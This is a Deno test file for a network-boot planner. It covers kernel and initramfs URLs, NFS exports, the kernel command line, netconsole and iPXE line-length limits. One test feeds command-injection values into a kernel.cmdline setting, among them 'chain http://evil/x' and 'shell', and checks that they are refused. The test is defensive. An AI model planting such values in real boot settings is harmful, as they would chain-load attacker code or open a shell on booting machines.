// The boot decision without sockets, database or files: src/boot/plan.ts planBoot.
import assert from "node:assert/strict";
import { parseCmdline } from "../contract/cmdline.ts";
import {
  type BootPlan,
  checkBoot,
  nodeAddress,
  planBoot,
  type PlanInput,
} from "../src/boot/plan.ts";
import { renderPlanScript } from "../netboot/ipxe.ts";
import { nodeSettings } from "../src/nodes.ts";
import { ipxeLines } from "./support/ipxescript.ts";

const mac = "52:54:00:aa:bb:cc";
const imageId = "ab".repeat(32);

function input(over: Partial<PlanInput> = {}, settings: Record<string, string> = {}): PlanInput {
  return {
    mac,
    node: { mac, name: "n1", model: "pc-x86-64", ip: "10.0.0.7", settings },
    imageId,
    image: { id: imageId, name: "debian", bootable: true, reason: null, initrd: "/initrd.img" },
    network: {
      serverIp: "10.0.0.1",
      netmask: "255.255.255.0",
      gateway: "10.0.0.254",
      base: "http://10.0.0.1:8080",
      nfs: "4.2",
      rootPath: `/data/images/${imageId}/rootfs`,
      persistPath: "/data/persist/525400aabbcc",
    },
    nodeIp: "10.0.0.7",
    token: "0123456789abcdef0123456789abcdef",
    ...over,
  };
}

Deno.test("plan: a bootable node gets kernel and initramfs of one image and the contract's command line", () => {
  const plan = planBoot(input({}, { "boot.mode": "network", "kernel.cmdline": "quiet" }));
  assert.ok(!("refused" in plan), JSON.stringify(plan));
  assert.equal(plan.loader, "ipxe");
  assert.equal(plan.initramfs, "netroot");
  assert.equal(
    plan.kernelUrl,
    `http://10.0.0.1:8080/boot/52-54-00-aa-bb-cc/kernel?image=${imageId}`,
  );
  assert.equal(
    plan.initramfsUrl,
    `http://10.0.0.1:8080/boot/52-54-00-aa-bb-cc/initramfs?image=${imageId}`,
  );
  assert.deepEqual(plan.exports, {
    root: `10.0.0.1:/data/images/${imageId}/rootfs`,
    persist: "10.0.0.1:/data/persist/525400aabbcc",
  });
  assert.equal(plan.mode, "network");
  const c = parseCmdline(plan.cmdline); // the node's parser takes it (throws otherwise)
  assert.equal(c.mac, mac);
  assert.equal(c.image, imageId);
  assert.match(
    plan.cmdline,
    /^console=tty0 console=ttyS0,115200 ip=10\.0\.0\.7:10\.0\.0\.1:10\.0\.0\.254:255\.255\.255\.0:n1::off /,
  );
  assert.match(plan.cmdline, / netroot\.token=0123456789abcdef0123456789abcdef /);
  assert.match(plan.cmdline, / netroot\.mode=network .* quiet$/);
});

Deno.test("plan: a kernel.cmdline that would end the iPXE kernel line or run a command is refused", () => {
  // Stored before the setting was checked for these (or written to the database directly).
  for (
    const extra of [
      "quiet && chain http://evil/x",
      "quiet || shell",
      "quiet ; shell",
      "quiet #x",
      "x=${ip}",
    ]
  ) {
    const plan = planBoot(input({}, { "kernel.cmdline": extra }));
    assert.ok("refused" in plan, `${extra}: ${JSON.stringify(plan)}`);
    assert.match(plan.refused, /^kernel\.cmdline /);
  }
  // The same characters inside a word are the kernel's (iPXE splits on blanks only).
  const plan = planBoot(input({}, { "kernel.cmdline": "a=b;c d=e#f x&&y" }));
  assert.ok(!("refused" in plan), JSON.stringify(plan));
  assert.match(plan.cmdline, / a=b;c d=e#f x&&y$/);
});

Deno.test("plan: an aarch64 virtual node's console is the virt machine's UART, other models none", () => {
  const cmdline = (model: string) => {
    const i = input();
    const plan = planBoot({ ...i, node: { ...i.node, model } });
    assert.ok(!("refused" in plan), JSON.stringify(plan));
    return plan.cmdline;
  };
  assert.match(cmdline("qemu-virt-aarch64"), /^console=ttyAMA0,115200 ip=/);
  assert.match(cmdline("rpi-4"), /^ip=/);
});

Deno.test("plan: settings choose the image's initramfs and no /persist", () => {
  const plan = planBoot(input({}, { initramfs: "image", persist: "false" }));
  assert.ok(!("refused" in plan));
  assert.equal(plan.initramfs, "image");
  assert.equal(plan.exports.persist, undefined);
  assert.ok(!plan.cmdline.includes("netroot.persist="));
});

Deno.test("plan: refusals say why, in the order a node meets them", () => {
  const refused = (i: PlanInput) => {
    const r = planBoot(i);
    assert.ok("refused" in r, JSON.stringify(r));
    return r.refused;
  };
  assert.equal(
    refused(input({ imageId: null, image: undefined })),
    "node n1 has no image deployed",
  );
  assert.equal(refused(input({ image: undefined })), `image ${imageId} of node n1 is missing`);
  const broken = { ...input().image!, bootable: false, reason: "no kernel in /boot" };
  assert.equal(
    refused(input({ image: broken })),
    "image debian is not bootable: no kernel in /boot",
  );
  const noInitrd = { ...input().image!, initrd: null };
  assert.match(refused(input({ image: noInitrd }, { initramfs: "image" })), /no initrd of its own/);
  // A value the node would refuse is refused here (checkBoot passes: it needs no token).
  const bad = input({}, { "nfs.timeout": "5" });
  assert.equal(checkBoot(bad), undefined);
  assert.match(refused(bad), /nfs\.timeout/);
});

Deno.test("plan: the node's address is the admin's, else its lease, else the request's, else the registry's", () => {
  const node = input().node;
  assert.equal(
    nodeAddress({ ...node, settings: { ip: "10.0.0.9" } }, "10.0.0.8", "10.0.0.5"),
    "10.0.0.9",
  );
  assert.equal(nodeAddress(node, "10.0.0.8", "10.0.0.5"), "10.0.0.8");
  assert.equal(nodeAddress(node, undefined, "10.0.0.5"), "10.0.0.5");
  assert.equal(nodeAddress(node, undefined, undefined), "10.0.0.7");
  assert.equal(nodeAddress({ ...node, ip: null }, undefined, undefined), undefined);
});

Deno.test("plan: console.netconsole=true sends the kernel log to the receiver, on the boot link only", () => {
  const netconsole = { port: 6666, serverMac: "02:00:00:00:00:01" };
  const cmdline = (over: Partial<PlanInput>, settings: Record<string, string>) => {
    const plan = planBoot(input(over, settings));
    assert.ok(!("refused" in plan), JSON.stringify(plan));
    return plan.cmdline;
  };
  const net = { ...input().network, netconsole };
  const on = { "console.netconsole": "true" };
  assert.equal(
    parseCmdline(cmdline({ network: net }, on)).netconsole,
    "6665@10.0.0.7/,6666@10.0.0.1/02:00:00:00:00:01",
  );
  // Off unless asked; not without a receiver; not for a node behind a router (the kernel sends
  // to one MAC, and the server knows only its own).
  assert.doesNotMatch(cmdline({ network: net }, {}), /netconsole=/);
  assert.doesNotMatch(cmdline({}, on), /netconsole=/);
  assert.doesNotMatch(cmdline({ network: net, nodeIp: "10.0.9.7" }, on), /netconsole=/);
});

Deno.test("plan: the kernel gets the whole command line iPXE hands it, or the boot is refused (never cut)", () => {
  // What x86 Linux keeps of the iPXE kernel line's arguments (its own initrd= first): BIOS iPXE
  // snprintf()s them into the kernel header's cmdline_size (2047) bytes, the NUL included; EFI
  // iPXE passes `<image name> <arguments>` (the name: the URL's last segment), of which the
  // kernel keeps COMMAND_LINE_SIZE (2048) bytes, the NUL included.
  const cut = (text: string, bytes: number) =>
    new TextDecoder().decode(new TextEncoder().encode(text).subarray(0, bytes));
  const intact = (args: string, kernelUrl: string) => {
    const efi = `${new URL(kernelUrl).pathname.split("/").at(-1)} ${args}`;
    return cut(args, 2046) === args && cut(efi, 2047) === efi;
  };
  const kernelArgs = (plan: BootPlan) => {
    const script = renderPlanScript(plan);
    const kernel = ipxeLines(script).flatMap((l) => l.commands).find((c) => c[0] === "kernel")!;
    return kernel.slice(2).join(" ");
  };
  const setting = nodeSettings.find((s) => s.key === "kernel.cmdline")!;
  // A data dir with a long path (both exports name it), and settings the node setting takes (at
  // most 1024 characters): one ASCII, filling the line to 2026 characters; one of 1,000 `é`.
  const long = `/srv/${"lab-storage/".repeat(25)}netroot`;
  const network = {
    ...input().network,
    rootPath: `${long}/images/${imageId}/rootfs`,
    persistPath: `${long}/persist/525400aabbcc`,
  };
  const base = planBoot(input({ network }));
  assert.ok(!("refused" in base));
  const ascii = `x=${"y".repeat(2026 - base.cmdline.length - 3)}`;
  for (const extra of [ascii, `msg=${"é".repeat(1000)}`]) {
    const value = setting.check("kernel.cmdline", extra);
    const plan = planBoot(input({ network }, { "kernel.cmdline": value }));
    if ("refused" in plan) {
      assert.match(plan.refused, /^kernel command line is \d+ bytes with iPXE's "kernel initrd=/);
      continue;
    }
    const args = kernelArgs(plan);
    const bytes = new TextEncoder().encode(args).length;
    assert.ok(intact(args, plan.kernelUrl), `${extra.slice(0, 12)}…: ${bytes} bytes, cut by Linux`);
  }
  // Short of the limit, the same setting boots.
  const plan = planBoot(input({ network }, { "kernel.cmdline": `msg=${"é".repeat(300)}` }));
  assert.ok(!("refused" in plan), JSON.stringify(plan));
  assert.ok(intact(kernelArgs(plan), plan.kernelUrl));
});
